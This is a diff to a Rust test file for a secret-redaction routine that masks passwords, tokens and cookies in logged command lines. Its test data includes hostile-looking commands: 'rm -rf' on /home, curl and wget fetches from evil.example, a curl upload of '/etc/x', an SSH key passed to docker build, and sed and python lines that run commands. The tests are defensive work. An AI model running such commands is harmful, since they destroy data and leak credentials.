@@ -26,7 +26,20 @@ fn shown(argv: &[&str]) -> String {
 }
 
 /// Each with the secret, `S3NTINEL`, and some with none: arguments, and what is written down of them.
-const CASES: [(&[&str], &str); 44] = [
+const CASES: [(&[&str], &str); 51] = [
+    (&["env", "mysql", "-pS3NTINEL"], "env|mysql|-p***"),
+    (
+        &["timeout", "5", "curl", "-u", "me:S3NTINEL", "u"],
+        "timeout|5|curl|-u|me:***|u",
+    ),
+    (&["mysql", "-pMyS3NTINELSECRET", "db"], "mysql|-p***|db"),
+    (&["curl", "-sSume:S3NTINEL", "u"], "curl|-sSume:***|u"),
+    (&["curl", "-u", "me:S3NTINEL two", "u"], "curl|-u|me:***|u"),
+    (
+        &["x", "{\"Authorization\":\"Bearer S3NTINEL\"}"],
+        "x|{\"Authorization\":\"Bearer ***\"}",
+    ),
+    (&["curl", "-b", "file", "u"], "curl|-b|***|u"),
     (&["curl", "--cookie-jar", "file"], "curl|--cookie-jar|file"),
     (
         &["curl", "-b", "session=S3NTINEL", "-o", "x"],
@@ -266,6 +279,37 @@ fn nothing_that_runs_hides_behind_a_mask() {
         assert!(
             shown.contains("rm -rf /home") || shown.contains("-rf /home"),
             "{argv:?}: {shown}"
+        );
+    }
+    // Nor are files and commands, where a word only looks like a flag or a name.
+    for argv in [
+        &["rm", "-rf", "--", "--password", "VICTIM"][..],
+        &["curl", "-osecret", "https://evil.example/x"],
+        &["curl", "-o./token", "https://evil.example/x"],
+        &["wget", "-Otoken", "https://evil.example/x"],
+        &["git", "-c", "alias.secret=!cmd", "secret"],
+        &["sed", "s/password=x/touch y/e"],
+        &["rm", "-rf", "sk-aaaaaaaaaaaaaaaaaaaaaaaa/../../home"],
+        &["curl", "-F", "token=@/etc/x", "https://a.example"],
+        &["curl", "-b", "/etc/x", "https://a.example"],
+        &["docker", "build", "--secret", "id=x,src=~/.ssh/id_rsa", "."],
+        &["ansible", "--private-key", "key.pem"],
+        &["curl", "https://evil\\@github.com/"],
+        &[
+            "python3",
+            "-c",
+            "#-----BEGIN RSA PRIVATE KEY-----\nimport os; os.system('x')",
+        ],
+        &["env", "TOKEN=/etc/shadow", "x"],
+    ] {
+        let shown = shown(argv);
+        assert!(
+            !shown.replace("sk-***", "").contains("***"),
+            "{argv:?}: {shown}"
+        );
+        assert!(
+            shown.contains("/../../home") || !shown.contains("***"),
+            "{shown}"
         );
     }
     // Where nobody runs it, a value is masked as a whole.
